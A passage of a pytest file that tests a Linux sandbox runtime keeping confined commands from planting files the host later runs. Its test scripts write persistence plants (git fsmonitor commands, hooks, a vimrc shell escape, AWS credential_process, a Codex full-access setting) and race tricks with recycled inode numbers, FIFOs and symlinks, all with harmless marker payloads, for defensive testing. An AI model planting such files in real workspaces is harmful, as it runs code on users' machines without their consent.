              sweep=(("/j/.envrc", None, False),))
    b = Found(read_only=("/j/.git/hooks",), how=(("/j/.git/hooks", "read-only bind"),),
              sweep=(("/j/.envrc", None, False),))
    assert a == b and hash(a) == hash(b) and a != Found() and Found() == Found()
    assert {a: 1}[b] == 1
    assert pickle.loads(pickle.dumps(a)) == a and copy.deepcopy(a) == a
    assert a.pins == () and "read_only=('/j/.git/hooks',)" in repr(a)
    with pytest.raises(AttributeError):
        a.pins = ("/x",)  # type: ignore[misc]
    assert a != ("/j/.git/hooks",)


#: A repository the run makes below the top level, with an fsmonitor command, and a gitlink
#: to it in the superproject's index (writable: `git add` needs it). The host's `git status`
#: in the superproject then runs `git status` in the submodule: its fsmonitor.
NEW_NESTED_REPO = r"""
mkdir -p {sub} && git init -q {sub} && git -C {sub} commit -q --allow-empty -m s \
  && git -C {sub} config core.fsmonitor "touch {marker}; false" \
  && git update-index --add --cacheinfo 160000,$(git -C {sub} rev-parse HEAD),{sub} \
  && echo planted=ok || echo planted=denied
"""


@pytest.mark.parametrize("mode,sub", [("default", "sub"), ("allowed", "sub"),
                                      ("default", "a/b/c/d/sub"), ("allowed", "a/b/c/d/sub"),
                                      ("depth0", "sub")])
def test_a_repository_made_below_the_top_level_plants_nothing_for_the_host(
        jail: Path, tmp_path: Path, mode: str, sub: str) -> None:
    """The run makes ``sub/.git`` with ``core.fsmonitor`` and registers it as a submodule
    in the index (both written: the plant's own control); the after-run search removes
    the new repository's config, so the user's next ``git status`` on the host runs
    nothing, and the receipt says what went. Below ``protect_depth`` (``a/b/c/d/sub``, or
    with ``--protect-depth 0``) the index's submodules are followed all the same. Negative
    control: with ``.git/config`` opted out the same plant stays and git runs it."""
    repo = _repo(jail)
    marker = tmp_path / "pwned-by-nested-fsmonitor"
    receipt = tmp_path / "r.json"
    extra = [*_envs(), "--receipt", receipt]
    if mode == "allowed":
        extra += ["--allow-write-protected", ".git/config"]
    if mode == "depth0":
        extra += ["--protect-depth", "0"]
    r = run_cli(repo, "sh", "-c", NEW_NESTED_REPO.format(marker=marker, sub=sub), extra=extra)
    assert r.returncode == 0 and _statuses(out(r)) == {"planted": "ok"}, show(r)
    _git(repo, "status")  # the user's next git status, on the host
    swept = read_receipt(receipt).get("protected_sweep", {})
    config = repo / sub / ".git" / "config"
    if mode == "allowed":
        assert marker.exists() and config.exists()
        return
    assert not marker.exists()
    assert not config.exists()
    assert (repo / sub / ".git").is_dir()  # the repository itself stays
    assert swept.get(str(config)) == "removed", swept


def test_a_deep_submodule_there_before_is_left_unless_the_run_changes_it(
        jail: Path, tmp_path: Path) -> None:
    """A submodule below ``protect_depth`` that existed before the run (registered in the
    index, its own config) is not protected during the run (the search does not reach it):
    left alone, it is left (its ctime predates the run); changed by the run, its config goes
    after it. Control: the change was written (its status)."""
    repo = _repo(jail)
    sub = "a/b/c/d/sub"
    marker = tmp_path / "pwned"
    setup = NEW_NESTED_REPO.format(marker=marker, sub=sub)
    subprocess.run(["sh", "-c", setup], cwd=repo, check=True, capture_output=True,
                   env={**os.environ, **GIT_ENV})
    subprocess.run(["git", "-C", sub, "config", "--unset", "core.fsmonitor"], cwd=repo,
                   check=True)
    config = repo / sub / ".git" / "config"
    before = config.read_bytes()
    time.sleep(1.1)  # past the ctime slack (protected.CTIME_SLACK)
    r = run_cli(repo, "true", extra=_envs())
    assert r.returncode == 0 and config.read_bytes() == before, show(r)
    r = run_cli(repo, "sh", "-c", f"git -C {sub} config core.fsmonitor 'touch {marker}; false'"
                " && echo changed=ok || echo changed=denied", extra=_envs())
    assert _statuses(out(r)) == {"changed": "ok"}, show(r)
    assert not config.exists()
    _git(repo, "status")
    assert not marker.exists()


#: Names a run makes below the top level, beside a nested name that was there before.
NESTED_PLANTS = r"""
mkdir -p sub/deeper && echo evil > sub/.envrc && mkdir sub/deeper/.vscode \
  && echo '{}' > sub/deeper/.vscode/tasks.json && mkdir evil && ln -s ../evil sub/deeper/.git \
  && echo planted=ok || echo planted=denied
echo changed >> kept/.envrc 2>/dev/null && echo kept=ok || echo kept=denied
"""


def test_what_a_run_makes_below_the_top_level_is_removed_after_it(jail: Path,
                                                                  tmp_path: Path) -> None:
    """A file, a directory tree and a ``.git`` symlink planted below the top level are
    gone after the run; a nested name that existed before is bound read-only (not
    written) and left. Negative control: each plant was written (its status), and with
    ``--protect-depth 0`` the same plants stay (the search, and so the sweep, stop at the
    top level)."""
    (jail / "kept").mkdir()
    (jail / "kept" / ".envrc").write_text("mine\n")
    for depth, left in (("3", False), ("0", True)):
        receipt = tmp_path / f"r{depth}.json"
        r = run_cli(jail, "sh", "-c", NESTED_PLANTS,
                    extra=["--protect-depth", depth, "--receipt", receipt])
        assert r.returncode == 0, show(r)
        statuses = _statuses(out(r))
        assert statuses["planted"] == "ok", show(r)
        assert statuses["kept"] == ("denied" if depth == "3" else "ok"), show(r)
        for name in ("sub/.envrc", "sub/deeper/.vscode", "sub/deeper/.git"):
            assert os.path.lexists(jail / name) == left, (depth, name)
        swept = read_receipt(receipt).get("protected_sweep", {})
        if not left:
            assert {str(jail / n) for n in ("sub/.envrc", "sub/deeper/.vscode",
                                            "sub/deeper/.git")} <= set(swept), swept
            assert (jail / "kept" / ".envrc").read_text() == "mine\n"
        import shutil
        shutil.rmtree(jail / "sub")
        shutil.rmtree(jail / "evil")


def test_a_worktree_the_run_adds_still_works_after_it(jail: Path) -> None:
    """``git worktree add`` in the jail writes ``wt/.git`` (a pointer into
    ``.git/worktrees/wt``) and that directory's ``commondir`` (``../..``): both lead home,
    so the after-run search leaves them, and the host's git uses the worktree. Its control:
    a commondir the run re-points elsewhere is removed (``test_a_commondir_redirect...``
    for one that existed; here one made by the run)."""
    repo = _repo(jail)
    r = run_cli(repo, "sh", "-c", "git worktree add -q wt && echo added=ok || echo added=no; "
                "mkdir -p .git/worktrees/evil && echo ../../../elsewhere > "
                ".git/worktrees/evil/commondir && echo HEAD > .git/worktrees/evil/HEAD",
                extra=_envs())
    assert r.returncode == 0 and _statuses(out(r))["added"] == "ok", show(r)
    assert (repo / "wt" / ".git").is_file()
    assert (repo / ".git" / "worktrees" / "wt" / "commondir").read_text().strip() == "../.."
    status = _git(repo / "wt", "status", "--porcelain")
    assert status.returncode == 0, status
    assert not (repo / ".git" / "worktrees" / "evil" / "commondir").exists()


@pytest.mark.parametrize("allowed", [False, True])
def test_a_hooks_path_in_the_work_tree_is_protected(jail: Path, tmp_path: Path,
                                                    allowed: bool) -> None:
    """``core.hooksPath = tools/githooks`` (a hook manager's layout): that directory is
    ``.git/hooks`` under another name, so a hook planted there must not run on the user's
    next commit. Negative control: opted out as ``.git/hooks``, the hook lands and runs."""
    repo = _repo(jail)
    (repo / "tools" / "githooks").mkdir(parents=True)
    assert _git(repo, "config", "core.hooksPath", "tools/githooks").returncode == 0
    marker = tmp_path / "pwned-by-hooks-path"
    extra = [*_envs()] + (["--allow-write-protected", ".git/hooks"] if allowed else [])
    r = run_cli(repo, "sh", "-c", f"printf '#!/bin/sh\\ntouch {marker}\\n' > "
                "tools/githooks/pre-commit && chmod +x tools/githooks/pre-commit "
                "&& echo hook=ok || echo hook=denied", extra=extra)
    assert _statuses(out(r)) == {"hook": "ok" if allowed else "denied"}, show(r)
    _git(repo, "commit", "-q", "--allow-empty", "-m", "next")  # the user's, on the host
    assert marker.exists() == allowed


@pytest.mark.parametrize("mode", ["existing", "missing", "allowed"])
def test_an_included_config_is_protected(jail: Path, tmp_path: Path, mode: str) -> None:
    """``include.path = ../shared.gitconfig`` (a tracked, shared config): git reads it as
    part of .git/config, so an fsmonitor appended there would run on the next `git status`.
    Existing, it is read-only; missing, what the run makes there is removed after it.
    Negative control: opted out as ``.git/config``, the plant lands and git runs it."""
    repo = _repo(jail)
    shared = repo / "shared.gitconfig"
    if mode != "missing":
        shared.write_text("[user]\n\tname = shared\n")
    assert _git(repo, "config", "include.path", "../shared.gitconfig").returncode == 0
    marker = tmp_path / "pwned-by-include"
    receipt = tmp_path / "r.json"
    extra = [*_envs(), "--receipt", receipt]
    if mode == "allowed":
        extra += ["--allow-write-protected", ".git/config"]
    r = run_cli(repo, "sh", "-c", f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n'"
                " >> shared.gitconfig && echo plant=ok || echo plant=denied", extra=extra)
    assert _statuses(out(r)) == {"plant": "denied" if mode == "existing" else "ok"}, show(r)
    _git(repo, "status")  # the user's next git status, on the host
    assert marker.exists() == (mode == "allowed")
    how = read_receipt(receipt)["protected"]
    if mode == "missing":
        assert not shared.exists()
        assert how[str(shared)] == "removed after the run", how
    elif mode == "existing":
        assert how[str(shared)] == "read-only bind", how


def test_a_protected_name_inside_a_protected_directory_keeps_it_read_only(jail: Path) -> None:
    """``.claude`` is kept read-only; a protected name found inside it (``.claude/agents/
    .envrc``) pins the directories between it and the root, and those pins were bound
    read-write after ``.claude``'s read-only bind, making ``.claude/agents`` writable again:
    an agent's definitions, planted. Control: ``--allow-write-protected .claude`` lets the
    same write land (the pin alone still keeps ``.envrc`` read-only)."""
    agents = jail / ".claude" / "agents"
    agents.mkdir(parents=True)
    (agents / ".envrc").write_text("")
    plant = f"echo evil > {agents}/planted.md && echo plant=ok || echo plant=denied"
    p = run_cli(jail, "/bin/sh", "-c", plant)
    assert_ok(p)
    assert "plant=denied" in out(p) and not (agents / "planted.md").exists(), show(p)
    p = run_cli(jail, "/bin/sh", "-c", plant, extra=["--allow-write-protected", ".claude"])
    assert_ok(p)
    assert "plant=ok" in out(p) and (agents / "planted.md").read_text() == "evil\n", show(p)


def test_a_home_s_login_editor_and_path_files_are_not_planted(jail: Path) -> None:
    """A jail that is a home directory: what runs at the user's next git command anywhere
    (~/.config/git/config), next command (~/.local/bin, before /usr/bin on Debian's PATH),
    next login (~/.config/systemd/user) or editor start (~/.vimrc). Existing ones are
    read-only; what the run makes at a missing one is gone after it. Control:
    --allow-write-protected lets the same writes land."""
    (jail / ".local" / "bin").mkdir(parents=True)
    (jail / ".config" / "git").mkdir(parents=True)
    (jail / ".config" / "git" / "config").write_text("[user]\n\tname = me\n")
    plant = ("printf '#!/bin/sh\\n' > .local/bin/git && echo bin=ok || echo bin=denied; "
             "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .config/git/config "
             "&& echo git=ok || echo git=denied; "
             "mkdir -p .config/systemd/user && echo '[Service]' > .config/systemd/user/a.service"
             " && echo unit=ok; echo 'silent !touch /tmp/x' > .vimrc && echo vimrc=ok")
    p = run_cli(jail, "/bin/sh", "-c", plant)
    assert_ok(p)
    assert "bin=denied" in out(p) and "git=denied" in out(p), show(p)
    assert "unit=ok" in out(p) and "vimrc=ok" in out(p), show(p)  # missing: made, then gone
    assert not (jail / ".local" / "bin" / "git").exists()
    assert (jail / ".config" / "git" / "config").read_text() == "[user]\n\tname = me\n"
    assert not (jail / ".config" / "systemd" / "user").exists() and not (jail / ".vimrc").exists()
    p = run_cli(jail, "/bin/sh", "-c", plant, extra=_allowing(
        ".local/bin", ".config/git/config", ".config/systemd/user", ".vimrc"))
    assert_ok(p)
    assert "bin=ok" in out(p) and "git=ok" in out(p), show(p)
    assert (jail / ".local" / "bin" / "git").exists() and (jail / ".vimrc").exists()
    assert (jail / ".config" / "systemd" / "user" / "a.service").exists()


def test_a_home_s_agent_and_tool_settings_are_not_planted(jail: Path) -> None:
    """A jail that is a home directory: the settings other agents and tools read in any
    project, naming commands they run (Codex's sandbox mode and MCP servers, kubectl's exec
    plugin, the AWS credential_process). Existing ones are read-only; what the run makes at
    a missing one is gone after it. Control: --allow-write-protected lets them land."""
    (jail / ".aws").mkdir()
    (jail / ".aws" / "config").write_text("[default]\nregion = x\n")
    plant = ("mkdir -p .codex .kube && "
             "echo 'sandbox_mode = \"danger-full-access\"' > .codex/config.toml && "
             "echo 'users: [{user: {exec: {command: /tmp/x}}}]' > .kube/config && echo made; "
             "echo 'credential_process = /tmp/x' >> .aws/config && echo aws=ok || echo aws=denied")
    p = run_cli(jail, "/bin/sh", "-c", plant)
    assert_ok(p)
    assert "made" in out(p) and "aws=denied" in out(p), show(p)
    assert not (jail / ".codex").exists() and not (jail / ".kube" / "config").exists()
    assert (jail / ".aws" / "config").read_text() == "[default]\nregion = x\n"
    p = run_cli(jail, "/bin/sh", "-c", plant,
                extra=_allowing(".codex", ".kube/config", ".aws/config"))
    assert_ok(p)
    assert "aws=ok" in out(p) and (jail / ".codex" / "config.toml").exists(), show(p)
    assert (jail / ".kube" / "config").exists()


def _allowing(*names: str) -> list[str]:
    """``--allow-write-protected NAME`` for each name: the controls' opt-out."""
    return [arg for name in names for arg in ("--allow-write-protected", name)]


def test_a_gitdir_file_swapped_for_a_fifo_does_not_hold_the_sweep(jail: Path) -> None:
    """The after-run search reads a ``.git`` file it found (a worktree's ``gitdir:``
    pointer) to tell whether it points home. Between its look and its read, another process
    with the root (a concurrent run in the same workspace) can put a FIFO there: opened to
    be read, a FIFO waits for a writer for ever, and the runtime with it. The swap is made
    here between the two steps (the window is too short to hit from a real run at will).
    Control: a plain open of that FIFO does wait."""
    import stat as stat_mod
    import threading
    from hcp_linux.policy.protected import after
    wt = jail / "wt"
    wt.mkdir()
    (wt / ".git").write_text(f"gitdir: {jail}/.git/worktrees/wt\n")
    looked = os.lstat(wt / ".git")
    assert stat_mod.S_ISREG(looked.st_mode)
    (wt / ".git").unlink()
    os.mkfifo(wt / ".git")

    def call(results: list, target) -> threading.Thread:  # type: ignore[no-untyped-def]
        t = threading.Thread(target=lambda: results.append(target()), daemon=True)
        t.start()
        t.join(10)
        return t

    opened: list = []
    control = call(opened, lambda: os.open(wt / ".git", os.O_RDONLY))
    assert control.is_alive(), "a plain open of a FIFO with no writer should wait"
    os.close(os.open(wt / ".git", os.O_WRONLY | os.O_NONBLOCK))  # lets the control go
    control.join(10)
    os.close(opened[0])

    fd = os.open(wt, os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        answered: list = []
        t = call(answered, lambda: after._points_home(fd, ".git", ".git", str(wt / ".git"),
                                                      (str(jail / ".git"),), looked))
        assert not t.is_alive(), "the sweep waited on a FIFO put in place of a .git file"
        assert answered == [False]
    finally:
        os.close(fd)


# --- a bind lost during the run -----------------------------------------------------------
# An existing protected name is kept by a read-only bind of its file over itself. The bind
# hangs on the host's name: when another process unlinks the file or renames something over
# it during the run (the user's editor or git saving by rename, a concurrent run's sweep),
# the kernel takes the bind away in every other mount namespace, and the command can then
# make a new file there. Once the run is over, whatever holds the name but is not the bound
# inode is moved aside, and the receipt says so.

#: Waits for ``go`` in the jail, writing ``.envrc`` before and after: ``before=denied`` shows
#: the bind, ``after=ok`` that it was gone (the condition each test makes is real).
_WAIT_THEN_PLANT = ("echo x >> .envrc 2>/dev/null && echo before=ok || echo before=denied; "
                    "touch ready; while [ ! -e go ]; do sleep 0.02; done; "
                    "echo planted > .envrc 2>/dev/null && echo after=ok || echo after=denied")


def _start(cli: list[str], env: dict[str, str], jail: Path, script: str,
           receipt: Path | None = None) -> subprocess.Popen:
    extra = ["--receipt", str(receipt)] if receipt is not None else []
    return subprocess.Popen([*cli, "run", *sandboxing.EXECUTOR_ARGS, "--jail", str(jail), *extra,
                             "--", "/bin/sh", "-c",
                             script], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=env, cwd="/")


def _run_while(how: str, jail: Path, tmp_path: Path, script: str,
               host: "Callable[[], None]") -> tuple[Path | None, str]:
    """Run ``script`` the ``how`` way (test_caller_state.WAYS), do ``host`` once it has
    written ``ready``, and wait for its end (exit 0): the receipt's path (None for the
    native client: a receipt to write sends it to Python, and its own end is the server's)
    and its output."""
    from test_caller_state import way
    receipt = None if how.startswith("native") else tmp_path / "r.json"
    with way(how, tmp_path) as (cli, env):
        proc = _start(cli, env, jail, script, receipt)
        try:
            wait_for(lambda: (jail / "ready").exists(), "the command to start")
            host()
            stdout, stderr = proc.communicate(timeout=TIMEOUT)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
    assert proc.returncode == 0, stderr.decode()
    return receipt, stdout.decode()


def _aside(jail: Path, name: str) -> list[Path]:
    return sorted(jail.glob(f"{name}.hcp-linux-replaced-*"))


@pytest.mark.parametrize("how", ["python", "native", "native served", "python served"])
def test_a_name_replaced_on_the_host_during_the_run_is_not_left_to_the_command(
        jail: Path, tmp_path: Path, how: str) -> None:
    """The user's editor saves ``.envrc`` by rename while a command runs: the command's
    bind of the old file goes, and what it then writes there would be the user's next
    direnv. After the run it is moved aside (not removed: it may be the user's). Served
    runs too: the Python client sweeps itself, the native one asks the server."""
    (jail / ".envrc").write_text("user\n")

    def save() -> None:  # an editor's atomic save
        (jail / ".envrc.new").write_text("user, edited\n")
        os.replace(jail / ".envrc.new", jail / ".envrc")
        (jail / "go").touch()
    receipt, text = _run_while(how, jail, tmp_path, _WAIT_THEN_PLANT, save)
    assert "before=denied" in text and "after=ok" in text, text  # bound, then not
    assert not (jail / ".envrc").exists()
    moved = _aside(jail, ".envrc")
    assert [p.read_text() for p in moved] == ["planted\n"]
    if receipt is not None:
        swept = json.loads(receipt.read_text())["protected_sweep"]
        assert swept[str(jail / ".envrc")].endswith(moved[0].name)


#: Notes the bound ``.envrc``'s inode number, waits for the host to delete it (the name goes
#: in the sandbox too, with the bind), then makes files in the same directory (ext4 gives
#: each the lowest free number of the group) until one has that number, and renames it to
#: ``.envrc``: a file the sweep, knowing the bound file by its number, would take for it.
_RECYCLE_THE_NUMBER = (
    "old=$(stat -c %i .envrc); "
    "echo x >> .envrc 2>/dev/null && echo before=ok || echo before=denied; "
    "touch ready; while [ -e .envrc ]; do sleep 0.01; done; i=0; hit=; "
    "while [ $i -lt 40 ] && [ -z \"$hit\" ]; do j=0; "
    "while [ $j -lt 100 ]; do : > r$i-$j; j=$((j+1)); done; "
    "hit=$(ls -i | awk -v o=$old '$1 == o {print $2}'); i=$((i+1)); done; "
    "[ -n \"$hit\" ] && mv \"$hit\" .envrc && echo reused; "
    "echo planted > .envrc 2>/dev/null && echo after=ok || echo after=denied")


@pytest.mark.parametrize("how", ["python", "native", "native served", "python served"])
def test_a_new_file_given_the_bound_file_s_old_number_is_not_taken_for_it(
        jail: Path, tmp_path: Path, how: str) -> None:
    """The bound ``.envrc`` is deleted on the host during the run (the user, a concurrent
    run's sweep): its bind goes. The sweep knows the bound file by its inode number; were
    that number free, the command could make files until one got it, rename that one to
    ``.envrc``, and have it kept as the user's. It is not free: the bind the kernel takes
    out of the run's mount namespace keeps the inode until that namespace goes, and the
    sweep runs only once every process of the run is gone. 4,000 files made in the same
    directory do not get the number. Control: the same recycling unconfined gets the
    number of a file deleted the same way (ext4 hands the lowest free number out)."""
    # control: unconfined, with nothing holding the deleted file, the number comes back;
    # a file system that does not hand a freed number out at once (tmpfs: CI's stock Debian
    # leg) has nothing to recycle, and the test could not fail there
    control = tmp_path / "control"
    control.mkdir()
    (control / ".envrc").write_text("user\n")
    p = subprocess.Popen(["/bin/sh", "-c", _RECYCLE_THE_NUMBER], cwd=control,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    wait_for(lambda: (control / "ready").exists(), "the control to start")
    (control / ".envrc").unlink()
    stdout, _ = p.communicate(timeout=TIMEOUT)
    if "reused" not in stdout.decode():
        pytest.skip("this file system does not hand a freed inode number out at once")
    (jail / ".envrc").write_text("user\n")
    _, text = _run_while(how, jail, tmp_path, _RECYCLE_THE_NUMBER,
                         lambda: (jail / ".envrc").unlink())
    assert "before=denied" in text and "after=ok" in text, text  # bound, then not
    assert "reused" not in text, text  # the number stayed taken
    assert not (jail / ".envrc").exists(), (jail / ".envrc").read_text()
    assert [p.read_text() for p in _aside(jail, ".envrc")] == ["planted\n"]


#: Tries to write ``.vscode/.envrc`` before and after the host's edit (``go``), and writes
#: ``.envrc`` after it: the control, a top-level name whose own bind the edit takes away.
_WRITE_INSIDE_BOUND = (
    "w() { echo x >> \"$1\" 2>/dev/null && echo ok || echo denied; }; "
    "echo \"before=$(w .vscode/.envrc)\"; touch ready; "
    "while [ ! -e go ]; do sleep 0.02; done; "
    "echo \"after=$(w .vscode/.envrc)\"; echo planted > .envrc && echo top=ok")


@pytest.mark.parametrize("how", ["python", "native served"])
def test_a_host_edit_inside_a_bound_protected_directory_stays(jail: Path, tmp_path: Path,
                                                              how: str) -> None:
    """A protected name inside a protected directory (``.vscode/.envrc``; the runtime's
    package inside a project's ``.venv``) is read-only through the directory's bind alone:
    the user's edit of it by rename during the run (an editor's save, a ``pip install -U``
    replacing the package) leaves the command unable to write it, and is the user's after
    the run: kept, not moved aside (before, it had a bind and an inode check of its own,
    and the edit was taken for the command's). Control, in the same run: a top-level
    ``.envrc`` the host replaces the same way loses its bind, the command writes it, and
    it is moved aside."""
    (jail / ".vscode").mkdir()
    (jail / ".vscode" / ".envrc").write_text("user\n")
    (jail / ".envrc").write_text("user\n")

    def save() -> None:  # the editor's atomic saves of both files
        for path in (jail / ".vscode" / ".envrc", jail / ".envrc"):
            path.with_name(".new").write_text("user, edited\n")
            os.replace(path.with_name(".new"), path)
        (jail / "go").touch()
    receipt, text = _run_while(how, jail, tmp_path, _WRITE_INSIDE_BOUND, save)
    assert "before=denied" in text and "after=denied" in text and "top=ok" in text, text
    assert (jail / ".vscode" / ".envrc").read_text() == "user, edited\n"
    assert not _aside(jail / ".vscode", ".envrc")
    assert [p.read_text() for p in _aside(jail, ".envrc")] == ["planted\n"]  # control
    if receipt is not None:
        data = json.loads(receipt.read_text())
        assert str(jail / ".vscode" / ".envrc") not in data["protected_sweep"]
        kept = data["protected"]
        assert kept[str(jail / ".vscode" / ".envrc")].startswith("read-only: inside")
        assert kept[str(jail / ".vscode")] == "read-only bind"


def test_a_name_left_alone_during_the_run_stays_as_it_was(jail: Path) -> None:
    """Control: the same run with no replacement on the host: the bind holds (the command's
    writes are refused), the file stays, nothing is moved aside."""
    (jail / ".envrc").write_text("user\n")
    (jail / "go").touch()
    p = run_cli(jail, "/bin/sh", "-c", _WAIT_THEN_PLANT)
    assert_ok(p)
    assert "before=denied" in out(p) and "after=denied" in out(p), show(p)
    assert (jail / ".envrc").read_text() == "user\n"
    assert not _aside(jail, ".envrc")


def test_a_replaced_name_the_policy_opts_out_of_is_the_command_s(jail: Path) -> None:
    """Control: with ``--allow-write-protected .envrc`` there is no bind, and the command's
    file stays where it wrote it."""
    (jail / ".envrc").write_text("user\n")
    (jail / "go").touch()
    p = run_cli(jail, "/bin/sh", "-c", _WAIT_THEN_PLANT, extra=_allowing(".envrc"))
    assert_ok(p)
    assert "after=ok" in out(p), show(p)
    assert (jail / ".envrc").read_text() == "planted\n"
    assert not _aside(jail, ".envrc")


def test_a_concurrent_run_s_sweep_does_not_open_a_name_to_another_run(jail: Path) -> None:
    """Two runs in one workspace. A makes ``.envrc`` (missing when it started: swept after
    it); B starts meanwhile, finds it, and binds it read-only. A's sweep removes it while B
    runs, which takes B's bind away: B's command writes ``.envrc``, and B, which found one
    there, used to leave it (the user's next direnv ran it)."""
    a = _start([*sandboxing.CLI], caller_env(), jail,
               "echo a > .envrc; touch a-ready; while [ ! -e go-a ]; do sleep 0.02; done")
    b = None
    try:
        wait_for(lambda: (jail / "a-ready").exists(), "run A's .envrc")
        b = _start([*sandboxing.CLI], caller_env(), jail, _WAIT_THEN_PLANT)
        wait_for(lambda: (jail / "ready").exists(), "run B to start")
        (jail / "go-a").touch()
        a.communicate(timeout=TIMEOUT)
        assert a.returncode == 0
        assert not (jail / ".envrc").exists()  # A's sweep
        (jail / "go").touch()
        stdout, stderr = b.communicate(timeout=TIMEOUT)
    finally:
        for p in (a, b):
            if p is not None and p.poll() is None:
                p.kill()
                p.wait()
    assert b.returncode == 0, stderr.decode()
    assert "before=denied" in stdout.decode() and "after=ok" in stdout.decode()
    assert not (jail / ".envrc").exists()
    assert [p.read_text() for p in _aside(jail, ".envrc")] == ["planted\n"]


# --- what the run left that the runtime reads after it ------------------------------------

def test_a_directory_swapped_for_a_symlink_is_not_chmodded_through_it(
        jail: Path, tmp_path: Path) -> None:
    """The sweep makes a mode-000 directory listable before emptying it. Between its look
    and the chmod, another process with the root (a concurrent run) can put a symlink
    there: the chmod by name followed it, and the unconfined runtime set a file outside
    the jail to 0700. The swap is made here between the two steps. Control: a chmod by
    name does follow the link."""
    from hcp_linux.policy.protected import walk
    victim = tmp_path / "victim"
    victim.write_text("outside the jail\n")
    victim.chmod(0o644)
    (jail / "d").mkdir(mode=0o000)
    looked = os.lstat(jail / "d")
    (jail / "d").rmdir()
    (jail / "d").symlink_to(victim)
    fd = os.open(jail, os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        with pytest.raises(OSError):
            walk._open_dir(fd, "d", looked)
        assert victim.stat().st_mode & 0o7777 == 0o644
        os.chmod("d", 0o700, dir_fd=fd)  # control: by name, through the link
        assert victim.stat().st_mode & 0o7777 == 0o700
    finally:
        os.close(fd)


def test_a_mode_000_tree_the_run_made_at_a_protected_name_is_removed(jail: Path) -> None:
    """What the chmod is for: a run that leaves a directory it made at a missing name
    unlistable (mode 000 at two levels) has it removed all the same."""
    p = run_cli(jail, "/bin/sh", "-c",
                "mkdir -p .envrc/a && echo x > .envrc/a/f && chmod 000 .envrc/a .envrc")
    assert_ok(p)
    assert not os.path.lexists(jail / ".envrc")


def test_a_submodule_path_git_could_not_check_out_does_not_stop_the_sweep(
        jail: Path, tmp_path: Path) -> None:
    """The index is the run's to write. A gitlink whose path has a name too long for the
    file system made the after-run search raise: the run's end failed, and a submodule
    config the run planted further down (an fsmonitor command the host's `git status`
    runs) stayed. Now that one entry is said to have failed and the rest is checked.
    Control: opted out of `.git/config`, the planted config stays."""
    long = "0" * 300  # sorts before a/b/c/d/sub in the index
    script = (
        "set -e; git init -q .; mkdir -p a/b/c/d/sub; cd a/b/c/d/sub; git init -q .; "
        "git commit -q --allow-empty -m i; "
        "git config core.fsmonitor 'touch /tmp/pwned; false'; cd \"$OLDPWD\"; "
        "H=$(git -C a/b/c/d/sub rev-parse HEAD); "
        "git update-index --add --cacheinfo 160000,$H,a/b/c/d/sub; "
        f"git update-index --add --cacheinfo 160000,$H,{long}")
    config = jail / "a/b/c/d/sub/.git/config"
    receipt = tmp_path / "r.json"
    p = run_cli(jail, "/bin/sh", "-c", script, extra=["--receipt", str(receipt), *_envs()])
    assert_ok(p)
    assert not config.exists(), show(p)
    assert f"{jail}/{long}" in read_receipt(receipt)["protected_sweep"]
    for name in (".git", "a"):
        subprocess.run(["rm", "-rf", "--", str(jail / name)], check=True)
    p = run_cli(jail, "/bin/sh", "-c", script, extra=[*_envs(), *_allowing(".git/config")])
    assert_ok(p)
    assert "fsmonitor" in config.read_text()


def test_a_worktrees_link_out_of_the_root_is_not_followed(jail: Path, tmp_path: Path) -> None:
    """The after-run search lists a repository's ``.git/worktrees`` and reads each
    worktree's ``gitdir`` and index. A run that makes ``.git/worktrees`` a symlink had the
    unconfined runtime list and read files outside the jail. Seen by the outside file's
    access time (set to 0, so that a read moves it under relatime); control: a plain
    read moves it."""
    outside = tmp_path / "outside"
    (outside / "w").mkdir(parents=True)
    gitdir = outside / "w" / "gitdir"
    gitdir.write_text(f"{jail}/wt/.git\n")
    os.utime(gitdir, (0, gitdir.stat().st_mtime))
    p = run_cli(jail, "/bin/sh", "-c", f"git init -q . && ln -s {outside} .git/worktrees")
    assert_ok(p)
    assert gitdir.stat().st_atime == 0, "the runtime read a file through the run's link"
    gitdir.read_text()  # control
    assert gitdir.stat().st_atime != 0


@pytest.mark.parametrize("mode", ["000", "100", "500", "400", "600"])
@pytest.mark.parametrize("where", ["the jail", "a directory it made"])
def test_a_directory_the_run_locks_does_not_hide_what_it_planted(jail: Path, mode: str,
                                                                 where: str) -> None:
    """A command that is not root's can chmod the directory it planted in (the jail's top
    too: the user owns it, and so does the run's uid): a runtime of the same uid could then
    neither see nor remove the planted ``.envrc`` (``failed: Permission denied``, or
    nothing said at all), and the user's ``chmod`` and ``cd`` got it. That directory gets its
    owner's rwx back. (As root the mode stops nothing: nobody's leg is the real case.)
    Control: opted out of ``.envrc``, what was planted stays."""
    sub = "." if where == "the jail" else "sub"
    plant = (f"mkdir -p {sub} && echo 'echo planted' > {sub}/.envrc && mkdir -p {sub}/.vscode"
             f" && chmod {mode} {sub} && echo planted=ok")
    planted = jail / sub / ".envrc"
    p = run_cli(jail, "/bin/sh", "-c", plant)
    assert_ok(p)
    assert "planted=ok" in out(p), show(p)
    assert os.stat(jail / sub).st_mode & 0o700 == 0o700 or os.geteuid() == 0
    os.chmod(jail / sub, 0o755)  # the user, back at the directory
    assert not os.path.lexists(planted) and not os.path.lexists(jail / sub / ".vscode")
    p = run_cli(jail, "/bin/sh", "-c", plant, extra=_allowing(".envrc", ".vscode"))
    assert_ok(p)
    os.chmod(jail / sub, 0o755)
    assert planted.read_text() == "echo planted\n"


@pytest.mark.parametrize("mode", ["000", "600"])
def test_a_locked_jail_does_not_hide_a_name_inside_its_git_directory(jail: Path,
                                                                      mode: str) -> None:
    """The sweep reaches ``.git/commondir`` through the jail's top: a run that plants it
    (git reads it on the user's next ``git status``, and follows it to a config of the
    run's choosing) and then locks the top had the first names under ``.git`` fail
    (``Permission denied``) before a later name's sweep unlocked the top. Every directory
    on the way gets its owner's rwx back as the sweep reaches it. Control: opted out, the
    plant stays."""
    assert _git(jail, "init", "-q").returncode == 0
    plant = f"echo ../../elsewhere > .git/commondir && chmod {mode} . && echo planted=ok"
    extra = ["--protect-missing", "sweep"]
    p = run_cli(jail, "/bin/sh", "-c", plant, extra=extra)
    assert_ok(p)
    assert "planted=ok" in out(p), show(p)
    os.chmod(jail, 0o755)
